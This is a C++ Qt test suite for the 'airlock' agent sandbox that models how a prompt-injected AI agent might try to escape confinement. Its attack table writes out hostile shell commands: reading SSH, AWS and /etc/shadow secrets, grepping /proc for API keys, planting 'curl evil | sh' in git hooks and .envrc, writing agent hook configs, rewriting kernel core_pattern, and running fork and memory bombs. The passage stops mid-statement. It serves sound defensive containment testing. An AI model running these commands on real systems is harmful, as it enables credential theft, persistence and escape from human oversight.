// The escape suite: what a prompt-injected agent would try from inside a sandbox. It runs twice: against
// a local bubblewrap sandbox made from the Standard preset (tst_escape) and against a Docker container
// made from the Hardened preset (tst_escape_docker), each with its limits scaled down so every bomb hits
// them within seconds (escapetarget.h). Each attack must be blocked, and the host must be unchanged
// afterwards: a planted fake HOME with ~/.ssh and ~/.aws, a planted API key in this (the launcher's)
// environment, files outside the workspace and the workspace's protected files hashed before and
// after, listeners on the host that must see no connection, a host process that must survive, and no
// trace of the sandbox once destroyed.

#include "escapetarget.h"
#include "sandbox/workspacequota.h"

#include "sandbox/sandboxtestutil.h"

#include <QCryptographicHash>
#include <QDirIterator>
#include <QProcess>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTest>

#include <fcntl.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <cstring>

using namespace airlock;
using namespace airlock::sandbox;
using namespace airlock::sandbox::test;

namespace {

const QByteArray kPlanted = "sk-ant-airlock-PLANTED-7f3a9c2e5b8d1f4a6c0e9b2d7a5f3c1e";

enum class Check {
    None,
    NoConnection,   // the host's loopback listener saw nothing
    VictimAlive,
    NoBesideFile,   // nothing appeared beside the workspace on the host
    SmallBigFile,   // the file-size bomb stayed within maxFileBytes
    OutputFlood,    // capped and stopped
    MemoryBomb,     // killed or refused near the limit
    ControlIntact,  // the control socket is there and the shim still answers
    CorePattern,    // kernel.core_pattern on the host is what it was
    NoSetuidFile,   // no set-user-ID or set-group-ID file of host root appeared
};

struct Attack
{
    const char *name;
    const char *script; // /bin/sh; $WS $SCRATCH $OUTSIDE $HOSTHOME $PORT $VICTIM $LAUNCHER $ATTACK $NEEDLE $ABSTRACT
    Check check = Check::None;
    int timeoutMs = 20000;
};

// clang-format off
const Attack kAttacks[] = {
    // Secrets on the host
    {"read ~/.ssh of the host user", R"(cat "$HOSTHOME/.ssh/id_ed25519" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"read ~/.aws of the host user", R"(cat "$HOSTHOME/.aws/credentials" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"read ~/.ssh through $HOME", R"({ cat ~/.ssh/id_ed25519 || cat ~/.aws/credentials; } 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"search the file system for keys", R"(find / -xdev \( -name id_ed25519 -o -name credentials \) -not -path '/proc/*' 2>/dev/null | grep -q . && echo ESCAPED || echo BLOCKED)"},
    {"planted key in any /proc environ or cmdline", R"("$ATTACK" grep-proc "$NEEDLE")"},
    {"read /proc/1/environ", R"(tr '\0' '\n' < /proc/1/environ | grep -q '^ANTHROPIC_API_KEY=' && echo ESCAPED || echo BLOCKED)"},
    {"read the launcher's environ by pid", R"(cat /proc/$LAUNCHER/environ 2>/dev/null | grep -q ANTHROPIC && echo ESCAPED || echo BLOCKED)"},
    {"read /etc/shadow", R"(cat /etc/shadow 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"reach the docker socket", R"({ [ -e /var/run/docker.sock ] || [ -e /run/docker.sock ]; } && echo ESCAPED || echo BLOCKED)"},
    {"read the host through /proc/1/root", R"(cat "/proc/1/root$OUTSIDE/secret.txt" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    // Writing outside the workspace
    {"write into a folder outside the workspace", R"(echo pwned > "$OUTSIDE/secret.txt" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"create a file beside the workspace", R"(echo pwned > "$WS/../beside.txt" 2>/dev/null; echo BLOCKED contained)", Check::NoBesideFile},
    {"write through a planted absolute symlink", R"(echo pwned > "$WS/escape-link" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"write through a planted relative symlink", R"(echo pwned > "$WS/rel-link" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"symlink made inside, then written", R"(ln -s "$OUTSIDE/secret.txt" "$WS/made-link" && echo pwned > "$WS/made-link" 2>/dev/null && echo ESCAPED || echo BLOCKED; rm -f "$WS/made-link")"},
    {"append to /etc/hosts", R"(echo '1.2.3.4 evil' >> /etc/hosts 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"replace the shim binary", R"(cp /bin/true /airlock/shim 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"tamper with the control folder", R"(r=BLOCKED; echo x > /airlock/control/evil 2>/dev/null && r=ESCAPED; ln -s / /airlock/control/root 2>/dev/null && r=ESCAPED; for f in /airlock/control/*.sock; do [ -S "$f" ] || continue; rm -f "$f" 2>/dev/null; [ -S "$f" ] || r=ESCAPED; done; echo $r)", Check::ControlIntact},
    {"write a kernel setting in /proc/sys", R"(echo 1 > /proc/sys/kernel/sysrq 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    // Host root through the kernel: settings that are host-wide and checked by uid, not by capability
    {"write kernel.core_pattern (a pipe the kernel runs as host root)", R"(echo '|/bin/true airlock-escape %p' > /proc/sys/kernel/core_pattern 2>/dev/null && echo ESCAPED || echo BLOCKED)", Check::CorePattern},
    {"write back host-wide kernel settings", R"("$ATTACK" sysctl)", Check::CorePattern},
    {"open kernel triggers for writing", R"("$ATTACK" kernel-triggers)"},
    {"plant a set-user-ID program with chmod", R"(cp "$ATTACK" "$SCRATCH/suid-chmod" 2>/dev/null; chmod 6755 "$SCRATCH/suid-chmod" 2>/dev/null; echo "BLOCKED? the host checks")", Check::NoSetuidFile},
    // Files that run on the host later
    {"write .git/hooks/pre-commit", R"(echo 'curl evil | sh' >> "$WS/.git/hooks/pre-commit" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"add a new git hook", R"(echo 'curl evil | sh' > "$WS/.git/hooks/post-checkout" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"move .git/hooks aside", R"(mv "$WS/.git/hooks" "$WS/.git/hooks-old" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"rewrite .git/config", R"(printf '[core]\n\thooksPath = /tmp/evil\n' >> "$WS/.git/config" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"write .envrc", R"(echo 'curl evil | sh' >> "$WS/.envrc" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"write editor tasks", R"(echo '{}' > "$WS/.vscode/tasks.json" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"plant a repository with an fsmonitor in a subfolder", R"(mkdir "$WS/sub"; mkdir "$WS/sub/.git" 2>/dev/null && printf '[core]\n\tfsmonitor = evil\n' > "$WS/sub/.git/config" 2>/dev/null && echo ESCAPED || echo BLOCKED; rmdir "$WS/sub" 2>/dev/null)"},
    {"write agent settings with hooks", R"(mkdir "$WS/.claude" 2>/dev/null; echo '{"hooks":{}}' > "$WS/.claude/settings.json" 2>/dev/null && echo ESCAPED || echo BLOCKED; rmdir "$WS/.claude" 2>/dev/null)"},
    {"write an MCP server list", R"(echo '{"mcpServers":{}}' > "$WS/.mcp.json" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"rename .git away and build a new one", R"(mv "$WS/.git" "$WS/.git-old" 2>/dev/null && mkdir -p "$WS/.git/hooks" && echo evil > "$WS/.git/hooks/pre-commit" && echo ESCAPED || echo BLOCKED)"},
    // Network
    {"reach a listener on the host's loopback", R"(bash -c "exec 3<>/dev/tcp/127.0.0.1/$PORT" 2>/dev/null && echo ESCAPED || echo BLOCKED)", Check::NoConnection},
    {"reach the host's loopback through the proxy bridge", R"(curl -s -m 5 -x http://127.0.0.1:3128 "http://127.0.0.1:$PORT/" >/dev/null 2>&1 && echo ESCAPED || echo BLOCKED)", Check::NoConnection},
    {"reach a host abstract unix socket", R"("$ATTACK" abstract "$ABSTRACT")"},
    {"resolve a name", R"(getent hosts example.com >/dev/null 2>&1 && echo ESCAPED || echo BLOCKED)"},
    {"connect to a raw IP", R"(bash -c 'exec 3<>/dev/tcp/1.1.1.1/80' 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"fetch through the proxy without a proxy", R"(curl -s -m 5 http://example.com/ >/dev/null 2>&1 && echo ESCAPED || echo BLOCKED)"},
    // Privileges and the kernel
    {"mount a file system", R"("$ATTACK" mount)"},
    {"remount in a nested user namespace", R"("$ATTACK" userns-remount)"},
    {"unshare -Ur", R"(unshare -Ur true 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"ptrace the sandbox's first process", R"("$ATTACK" ptrace 1)"},
    {"ptrace the launcher", R"("$ATTACK" ptrace "$LAUNCHER")"},
    {"kill a host process", R"(kill -9 "$VICTIM" 2>/dev/null && echo ESCAPED || echo BLOCKED)", Check::VictimAlive},
    {"setuid and capabilities", R"("$ATTACK" privileges)"},
    {"add a key to the kernel keyring", R"("$ATTACK" syscall keyctl)"},
    {"load a BPF program", R"("$ATTACK" syscall bpf)"},
    {"open a perf event", R"("$ATTACK" syscall perf)"},
    {"load a kernel module", R"("$ATTACK" syscall module)"},
    {"kexec a new kernel", R"("$ATTACK" syscall kexec)"},
    {"open_by_handle_at", R"("$ATTACK" syscall handle)"},
    {"chroot", R"("$ATTACK" syscall chroot)"},
    {"change the hostname", R"("$ATTACK" syscall hostname)"},
    {"inject terminal input", R"("$ATTACK" syscall tiocsti)"},
    {"make a device node", R"(mknod /tmp/sda b 8 0 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    // Bombs, each bounded
    {"fork bomb", R"("$ATTACK" forkbomb 2000)", Check::None, 60000},
    {"memory bomb", R"(exec "$ATTACK" membomb 1024)", Check::MemoryBomb, 60000},
    {"fill /tmp", R"(i=0; while [ $i -lt 40 ]; do head -c 1048576 /dev/zero > /tmp/fill$i 2>/dev/null || break; i=$((i+1)); done; k=$(du -ck /tmp/fill* | tail -n1 | cut -f1); [ "$k" -le 16500 ] && echo "BLOCKED /tmp full at ${k}k" || echo "ESCAPED ${k}k")", Check::None, 60000},
    {"file-size bomb", R"(head -c 67108864 /dev/zero > "$SCRATCH/big" 2>/dev/null; s=$(stat -c %s "$SCRATCH/big"); rm -f "$SCRATCH/big"; [ "$s" -le 8388608 ] && echo "BLOCKED stopped at $s" || echo "ESCAPED $s")", Check::SmallBigFile, 60000},
    {"output flood", R"(yes airlock)", Check::OutputFlood, 60000},
};
// clang-format on

QByteArray hashOf(const QString &path)
{
    QFile f(path);
    if (!f.open(QIODevice::ReadOnly))
        return QByteArray("<missing>");
    QCryptographicHash h(QCryptographicHash::Sha256);
    h.addData(&f);
    return h.result().toHex();
}

void writeFile(const QString &path, const QByteArray &data)
{
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile f(path);
    if (f.open(QIODevice::WriteOnly))
        f.write(data);
}

// Every file below `root` with its hash, links described rather than followed.
QMap<QString, QByteArray> tree(const QString &root)
{
    QMap<QString, QByteArray> out;
    QDirIterator it(root, QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot, QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString path = it.next();
        const QFileInfo info(path);
        out.insert(path, info.isSymLink() ? "link:" + info.symLinkTarget().toUtf8() : info.isDir() ? QByteArray("dir") : hashOf(path));
    }
    return out;
}

int firstAttack(const char *name)
{
    for (int i = 0; i < int(std::size(kAttacks)); ++i)
        if (std::strcmp(kAttacks[i].name, name) == 0)
            return i;
    return -1;
}

} // namespace

class TestEscape : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void attack_data();
    void attack();
    void hostApiStaysInTheWorkspace();
    void sandboxedCodeIsNeverHostRoot();
    void rootOwnedHostFolderStaysReadOnly();
    void workspaceSizeIsLimited_data();
    void workspaceSizeIsLimited();
    void controlRunCatchesAWeakPolicy_data();
    void controlRunCatchesAWeakPolicy();

private:
    Outcome runAttack(Sandbox *s, const Attack &a);
    void plant();
    QMap<QString, QByteArray> hostState() const;

    std::unique_ptr<EscapeTarget> m_target;
    QString m_outside;
    QString m_home;
    QString m_abstractName;
    int m_abstractFd = -1;
    QTcpServer m_listener;
    QProcess m_victim;
    QByteArray m_oldHome;
    QByteArray m_corePattern;

    static QByteArray readSmall(const QString &path)
    {
        QFile f(path);
        return f.open(QIODevice::ReadOnly) ? f.read(4096) : QByteArray();
    }
    // An attack that got through must not leave the host's crash handler in its hands.
    void restoreCorePattern() const
    {
        if (m_corePattern.isEmpty())
            return;
        QFile f(QStringLiteral("/proc/sys/kernel/core_pattern"));
        if (f.open(QIODevice::WriteOnly))
            f.write(m_corePattern);
    }
};

void TestEscape::initTestCase()
{
    m_corePattern = readSmall(QStringLiteral("/proc/sys/kernel/core_pattern"));
    m_target = makeEscapeTarget();
    if (const QString why = m_target->unavailable(); !why.isEmpty())
        QSKIP(qPrintable(why));
    qInfo("target: %s", qPrintable(m_target->name()));
    m_outside = m_target->root() + QStringLiteral("/outside");
    m_home = m_target->root() + QStringLiteral("/home");
    // The launcher's environment: a fake HOME and API keys that must never be seen inside.
    m_oldHome = qgetenv("HOME");
    qputenv("HOME", QFile::encodeName(m_home));
    qputenv("ANTHROPIC_API_KEY", kPlanted);
    qputenv("AWS_SECRET_ACCESS_KEY", kPlanted);
    QString why;
    QVERIFY2(m_target->prepare(&why), qPrintable(why));
    plant();
    // An attack that fails because its tool is missing would prove nothing.
    Sandbox *s = m_target->start(m_target->policy());
    QVERIFY(s);
    const Outcome tools = sh(s, QStringLiteral("for t in bash curl getent unshare find stat head du tr yes mknod ln; do "
                                               "command -v $t >/dev/null || echo \"missing $t\"; done"));
    QVERIFY(m_target->destroy(s));
    QVERIFY2(tools.status && tools.out.isEmpty(), QByteArray(tools.out + tools.err).constData());

    QVERIFY(m_listener.listen(QHostAddress::LocalHost));
    m_abstractName = QStringLiteral("airlock-escape-%1").arg(::getpid());
    m_abstractFd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    const QByteArray name = m_abstractName.toUtf8();
    std::memcpy(addr.sun_path + 1, name.constData(), static_cast<size_t>(name.size()));
    QVERIFY(::bind(m_abstractFd, reinterpret_cast<sockaddr *>(&addr),
                   static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size())) == 0);
    QVERIFY(::listen(m_abstractFd, 4) == 0);
    m_victim.start(QStringLiteral("sleep"), {QStringLiteral("600")});
    QVERIFY(m_victim.waitForStarted());
}

void TestEscape::cleanupTestCase()
{
    if (readSmall(QStringLiteral("/proc/sys/kernel/core_pattern")) != m_corePattern)
        restoreCorePattern();
    m_victim.kill();
    m_victim.waitForFinished();
    if (m_abstractFd >= 0)
        ::close(m_abstractFd);
    m_target.reset();
    if (!m_oldHome.isNull())
        qputenv("HOME", m_oldHome);
}

void TestEscape::plant()
{
    writeFile(m_home + QStringLiteral("/.ssh/id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----\nplanted\n");
    writeFile(m_home + QStringLiteral("/.aws/credentials"), "[default]\naws_secret_access_key = " + kPlanted + "\n");
    writeFile(m_outside + QStringLiteral("/secret.txt"), "outside the workspace\n");
    const QString ws = m_target->workspace();
    writeFile(ws + QStringLiteral("/.git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
    writeFile(ws + QStringLiteral("/.git/config"), "[core]\n\tbare = false\n");
    writeFile(ws + QStringLiteral("/.envrc"), "export PATH=$PWD/bin:$PATH\n");
    writeFile(ws + QStringLiteral("/.vscode/settings.json"), "{}\n");
    QFile::link(m_outside + QStringLiteral("/secret.txt"), ws + QStringLiteral("/escape-link"));
    QFile::link(QStringLiteral("../outside/secret.txt"), ws + QStringLiteral("/rel-link"));
    QFile::copy(QStringLiteral(AIRLOCK_ATTACK_PATH), ws + QStringLiteral("/.airlock-attack"));
    QFile::setPermissions(ws + QStringLiteral("/.airlock-attack"), QFile::ReadOwner | QFile::ExeOwner | QFile::ReadOther | QFile::ExeOther);
    if (const auto owner = m_target->workspaceOwner()) {
        QDirIterator it(ws, QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot, QDirIterator::Subdirectories);
        (void)::lchown(QFile::encodeName(ws).constData(), *owner, *owner);
        while (it.hasNext())
            (void)::lchown(QFile::encodeName(it.next()).constData(), *owner, *owner);
    }
}

QMap<QString, QByteArray> TestEscape::hostState() const
{
    // The whole fixture (fake home, outside folder, workspace) plus host files a sandbox can see.
    QMap<QString, QByteArray> state = tree(m_target->root());
    // Its own runtime folder comes and goes with each sandbox; that is checked separately.
    for (auto it = state.begin(); it != state.end();) {
        if (it.key().startsWith(m_target->runtimeRoot()))
            it = state.erase(it);
        else
            ++it;
    }
    for (const QString &path : {QStringLiteral("/etc/hosts"), QStringLiteral("/etc/passwd"),
                                QStringLiteral("/proc/sys/kernel/sysrq"), QStringLiteral("/proc/sys/kernel/core_pattern"),
                                QStringLiteral("/proc/sys/kernel/modprobe"), QStringLiteral(AIRLOCK_SHIM_PATH)})
        state.insert(path, hashOf(path));
    char host[256] = {};
    ::gethostname(host, sizeof host - 1);
    state.insert(QStringLiteral("hostname"), QByteArray(host));
    return state;
}

void TestEscape::attack_data()
{
    QTest::addColumn<int>("index");
    for (int i = 0; i < int(std::size(kAttacks)); ++i)
        QTest::newRow(kAttacks[i].name) << i;
}

void TestEscape::attack()
{
    QFETCH(int, index);
    const Attack &a = kAttacks[index];
    // The attacks on files that run on the host later are what the protection layer stops; where
    // this user cannot mount it (AIRLOCK_TEST_WITHOUT_LAYER) they are skipped, and everything else runs.
    if (!m_target->policy().filesystem.protectionLayer && index >= firstAttack("write .git/hooks/pre-commit")
        && index <= firstAttack("rename .git away and build a new one"))
        QSKIP("the workspace protection layer is off in this run: this user cannot mount FUSE here");
    const QMap<QString, QByteArray> before = hostState();

    Sandbox *s = m_target->start(m_target->policy());
    QVERIFY(s);
    const QString id = s->id();
    const QString controlDir = s->info().controlDir;
    const bool hadSocket = QFileInfo::exists(controlDir + QStringLiteral("/shim.sock"));
    const QString ws = m_target->workspace();
    const Outcome o = runAttack(s, a);
    // Undone before any verdict: a crash handler of the sandbox's choosing, or a set-id root file
    // left on the host, must not outlive a failed test.
    const QByteArray corePattern = readSmall(QStringLiteral("/proc/sys/kernel/core_pattern"));
    if (corePattern != m_corePattern)
        restoreCorePattern();
    QString setuidFound;
    for (const char *name : {"suid-chmod"}) {
        const QString path = m_target->scratch() + u'/' + QLatin1StringView(name);
        struct stat st{};
        if (::lstat(QFile::encodeName(path).constData(), &st) != 0)
            continue; // inside a container's own /tmp, or never made
        QFile::remove(path);
        if ((st.st_mode & (S_ISUID | S_ISGID)) && (st.st_uid == 0 || st.st_gid == 0))
            setuidFound += QStringLiteral("%1 on the host is set-id root: mode %2, owner %3:%4; ")
                               .arg(path).arg(st.st_mode & 07777, 0, 8).arg(st.st_uid).arg(st.st_gid);
    }
    QVERIFY2(o.status, qPrintable(o.error ? o.error->message : QStringLiteral("no exit status")));
    const QByteArray text = o.out.left(2000) + o.err.left(2000);
    QVERIFY2(!o.out.contains("ESCAPED"), text.constData());
    QVERIFY(!o.out.contains(kPlanted) && !o.err.contains(kPlanted));

    switch (a.check) {
    case Check::OutputFlood:
        QVERIFY(o.status->outputTruncated);
        QVERIFY(o.status->outputCapStopped); // stopped at the cap, not left to run into its timeout
        QVERIFY(o.out.size() + o.err.size() <= qsizetype(1 << 20));
        break;
    case Check::MemoryBomb: {
        // Refused by RLIMIT_AS, or killed by the cgroup's OOM killer near 256 MiB.
        const QList<QByteArray> lines = o.out.trimmed().split('\n');
        const int reached = lines.isEmpty() ? 0 : lines.last().toInt();
        QVERIFY2(o.out.contains("BLOCKED") || o.status->signal == 9, text.constData());
        QVERIFY2(reached <= 256 + 16, text.constData());
        break;
    }
    default:
        QVERIFY2(o.out.contains("BLOCKED"), text.constData());
        break;
    }
    switch (a.check) {
    case Check::NoConnection:
        QVERIFY(!m_listener.hasPendingConnections());
        QVERIFY(!m_listener.waitForNewConnection(0));
        break;
    case Check::VictimAlive:
        QCOMPARE(m_victim.state(), QProcess::Running);
        QVERIFY(pidAlive(m_victim.processId()));
        break;
    case Check::NoBesideFile:
        QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/../beside.txt")));
        break;
    case Check::SmallBigFile:
        QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/big")));
        break;
    case Check::CorePattern:
        QVERIFY2(corePattern == m_corePattern,
                 qPrintable(QStringLiteral("kernel.core_pattern on the host became: ") + QString::fromUtf8(corePattern)));
        break;
    case Check::NoSetuidFile:
        QVERIFY2(setuidFound.isEmpty(), qPrintable(setuidFound));
        break;
    case Check::ControlIntact: {
        QCOMPARE(QFileInfo::exists(controlDir + QStringLiteral("/shim.sock")), hadSocket);
        QVERIFY(!QFileInfo::exists(controlDir + QStringLiteral("/evil")));
        QVERIFY(!QFileInfo(controlDir + QStringLiteral("/root")).isSymLink());
        QCOMPARE(sh(s, QStringLiteral("echo still here")).out, QByteArray("still here\n"));
        break;
    }
    default:
        break;
    }

    QVERIFY(m_target->destroy(s));
    const QString left = m_target->leftovers(id, controlDir);
    QVERIFY2(left.isEmpty(), qPrintable(QStringLiteral("left on the host: ") + left));
    // Nothing reached the host: no connection, no file changed or added, the host process alive.
    int pending = ::accept(m_abstractFd, nullptr, nullptr);
    QCOMPARE(pending, -1);
    QVERIFY(!m_listener.hasPendingConnections());
    QCOMPARE(m_victim.state(), QProcess::Running);
    const QMap<QString, QByteArray> after = hostState();
    for (auto it = before.cbegin(); it != before.cend(); ++it)
        QVERIFY2(after.value(it.key()) == it.value(), qPrintable(QStringLiteral("changed on the host: ") + it.key()));
    for (auto it = after.cbegin(); it != after.cend(); ++it)
        QVERIFY2(before.contains(it.key()), qPrintable(QStringLiteral("appeared on the host: ") + it.key()));
    // The host can still start processes after any bomb.
    QProcess probe;
    probe.start(QStringLiteral("/bin/true"), {});
    QVERIFY(probe.waitForFinished(5000));
    QCOMPARE(probe.exitCode(), 0);
}

Outcome TestEscape::runAttack(Sandbox *s, const Attack &a)
{
    const QString ws = m_target->workspace();
    ExecRequest r;
    r.argv = {QStringLiteral("/bin/sh"), QStringLiteral("-c"), QString::fromLatin1(a.script)};
    QByteArray needle = kPlanted;
    std::reverse(needle.begin(), needle.end());
    r.env = {QStringLiteral("WS=") + ws, QStringLiteral("SCRATCH=") + m_target->scratch(), QStringLiteral("OUTSIDE=") + m_outside, QStringLiteral("HOSTHOME=") + m_home,
             QStringLiteral("PORT=%1").arg(m_listener.serverPort()), QStringLiteral("VICTIM=%1").arg(m_victim.processId()),
             QStringLiteral("LAUNCHER=%1").arg(::getpid()), QStringLiteral("ATTACK=") + ws + QStringLiteral("/.airlock-attack"),
             QStringLiteral("NEEDLE=") + QString::fromLatin1(needle), QStringLiteral("ABSTRACT=") + m_abstractName};
    if (a.check == Check::OutputFlood) {
        r.timeoutMs = 1500;
        r.killGraceMs = 200;
    }
    return run(s, r, a.timeoutMs);
}

void TestEscape::controlRunCatchesAWeakPolicy_data()
{
    QTest::addColumn<QString>("name");
    for (const char *name : {"read ~/.ssh through $HOME", "reach a listener on the host's loopback",
                             "add a key to the kernel keyring", "write .git/hooks/pre-commit"})
        QTest::newRow(name) << QString::fromLatin1(name);
}

// The suite has teeth: with the protections these attacks aim at switched off, they get through.
// (Last, because a successful attack changes the planted files.)
void TestEscape::controlRunCatchesAWeakPolicy()
{
    QFETCH(QString, name);
    const auto *a = std::find_if(std::begin(kAttacks), std::end(kAttacks), [&](const Attack &x) { return name == QLatin1StringView(x.name); });
    QVERIFY(a != std::end(kAttacks));
    Sandbox *s = m_target->start(m_target->weakened());
    QVERIFY(s);
    const Outcome o = runAttack(s, *a);
    QVERIFY2(o.out.contains("ESCAPED"), QByteArray(o.out + o.err).constData());
    QVERIFY(m_target->destroy(s));
}

// The host-side file API (what ACP fs/* requests use) with paths and links the agent prepared.
void TestEscape::hostApiStaysInTheWorkspace()
{
    const QMap<QString, QByteArray> before = hostState();
    Sandbox *s = m_target->start(m_target->writable()); // the links are made inside
    QVERIFY(s);
    QCOMPARE(sh(s, QStringLiteral("ln -s \"%1\" made-dir-link && ln -s /etc/passwd made-file-link && echo ok").arg(m_outside)).out,
             QByteArray("ok\n"));
    const auto wait = [](auto future) {
        using R = decltype(future.result());
        if (!QTest::qWaitFor([&] { return future.isFinished(); }, 10000))
            return R(std::unexpected(Error{ErrorCode::Io, QStringLiteral("timed out")}));
        return future.result();
    };
    QVERIFY(!wait(s->readFile(QStringLiteral("escape-link"))));
    QVERIFY(!wait(s->readFile(QStringLiteral("made-file-link"))));
    QVERIFY(!wait(s->readFile(QStringLiteral("made-dir-link/secret.txt"))));
    QVERIFY(!wait(s->readFile(m_outside + QStringLiteral("/secret.txt"))));
    QVERIFY(!wait(s->readFile(QStringLiteral("../outside/secret.txt"))));
    QVERIFY(!wait(s->writeFile(QStringLiteral("escape-link"), "pwned")));
    QVERIFY(!wait(s->writeFile(QStringLiteral("made-dir-link/secret.txt"), "pwned")));
    QVERIFY(!wait(s->writeFile(QStringLiteral("rel-link"), "pwned")));
    QVERIFY(!wait(s->writeFile(QStringLiteral(".git/hooks/pre-commit"), "pwned")));
    QVERIFY(!wait(s->writeFile(QStringLiteral(".envrc"), "pwned")));
    QVERIFY(!wait(s->listDir(QStringLiteral("made-dir-link"))));
    QVERIFY(wait(s->readFile(QStringLiteral(".envrc")))); // reading inside is fine
    QVERIFY(sh(s, QStringLiteral("rm made-dir-link made-file-link")).status);
    QVERIFY(m_target->destroy(s));
    const QMap<QString, QByteArray> after = hostState();
    QCOMPARE(after, before);
}

namespace {

// The process and all its descendants, from one scan of /proc.
QList<qint64> processTree(qint64 root)
{
    QMultiHash<qint64, qint64> children;
    const QStringList pids = QDir(QStringLiteral("/proc")).entryList(QDir::Dirs | QDir::NoDotAndDotDot);
    for (const QString &pid : pids) {
        QFile stat(QStringLiteral("/proc/%1/stat").arg(pid));
        if (!stat.open(QIODevice::ReadOnly))
            continue;
        const QByteArray text = stat.readAll();
        const qsizetype close = text.lastIndexOf(')');
        const QList<QByteArray> fields = text.mid(close + 2).split(' ');
        if (close > 0 && fields.size() > 1)
            children.insert(fields.at(1).toLongLong(), pid.toLongLong());
    }
    QList<qint64> out{root};
    for (qsizetype i = 0; i < out.size(); ++i)
        out += children.values(out.at(i));
    return out;
}

// "Uid:\treal\teffective\tsaved\tfs" as the host sees it.
QList<qint64> idsOf(qint64 pid, const char *field)
{
    QFile status(QStringLiteral("/proc/%1/status").arg(pid));
    if (!status.open(QIODevice::ReadOnly))
        return {};
    for (const QByteArray &line : status.readAll().split('\n')) {
        if (!line.startsWith(field))
            continue;
        QList<qint64> ids;
        for (const QByteArray &word : line.mid(qstrlen(field)).simplified().split(' '))
            ids << word.toLongLong();
        return ids;
    }
    return {};
}

} // namespace

// What the kernel checks by uid (/proc/sys, files of root on the host) is only safe if no sandboxed
// process is host uid 0: not the sandbox's first process, not a command it runs, not bwrap itself.
void TestEscape::sandboxedCodeIsNeverHostRoot()
{
    Sandbox *s = m_target->start(m_target->policy());
    QVERIFY(s);
    ExecRequest r;
    r.argv = {QStringLiteral("/bin/sh"), QStringLiteral("-c"), QStringLiteral("echo ready; exec sleep 60")};
    Result<SandboxProcess *> p = s->exec(r);
    QVERIFY2(p, qPrintable(p ? QString() : p.error().message));
    QSignalSpy ready(*p, &SandboxProcess::stdoutReceived);
    QVERIFY(ready.wait(10000));
    QTRY_VERIFY_WITH_TIMEOUT(s->info().hostPid > 0, 10000);
    const qint64 hostPid = s->info().hostPid;
    // "ready" comes before the shell execs sleep: on a busy machine the tree may show sh for a while.
    const auto hasSleep = [hostPid] {
        const QList<qint64> now = processTree(hostPid);
        return std::any_of(now.begin(), now.end(), [](qint64 pid) {
            QFile comm(QStringLiteral("/proc/%1/comm").arg(pid));
            return comm.open(QIODevice::ReadOnly) && comm.readAll().trimmed() == "sleep";
        });
    };
    QTRY_VERIFY_WITH_TIMEOUT(hasSleep(), 10000);
    const QList<qint64> tree = processTree(hostPid);
    qInfo("uid mapping %s, %lld processes from host pid %lld", qPrintable(s->info().uidMapping), qint64(tree.size()), hostPid);
    QVERIFY2(tree.size() >= 2, "the sandbox's processes are not visible from the host");
    bool sawSleep = false;
    for (qint64 pid : tree) {
        QFile comm(QStringLiteral("/proc/%1/comm").arg(pid));
        const QByteArray name = comm.open(QIODevice::ReadOnly) ? comm.readAll().trimmed() : QByteArray();
        sawSleep = sawSleep || name == "sleep";
        const QList<qint64> uids = idsOf(pid, "Uid:");
        const QList<qint64> gids = idsOf(pid, "Gid:");
        if (uids.isEmpty())
            continue; // ended meanwhile
        QVERIFY2(!uids.contains(0), qPrintable(QStringLiteral("host pid %1 (%2) runs as host uid 0: Uid %3")
                                                   .arg(pid).arg(QString::fromUtf8(name)).arg(QString::fromUtf8(QByteArray::number(uids.value(0))))));
        QVERIFY2(!gids.contains(0), qPrintable(QStringLiteral("host pid %1 (%2) runs with host gid 0").arg(pid).arg(QString::fromUtf8(name))));
    }
    QVERIFY(sawSleep);
    // What the sandbox is told matches: the uid mapping names a host uid that is not 0.
    QVERIFY(!s->info().uidMapping.isEmpty());
    QVERIFY2(!s->info().uidMapping.section(QStringLiteral(" -> "), 1).startsWith(u'0'), qPrintable(s->info().uidMapping));
    QVERIFY(m_target->destroy(s));
}

// The workspace's size limit holds however the data is written: many files each under the per-file
// limit, one file past it, data behind extra hard links, a sparse file with a large apparent size.
void TestEscape::workspaceSizeIsLimited_data()
{
    QTest::addColumn<QString>("script");
    QTest::addColumn<bool>("stopsTheSandbox"); // else: the write itself fails, the sandbox runs on
    // Three 12 MiB files through a 32 MiB limit: each is allowed, together they are not.
    QTest::newRow("files under the per-file limit")
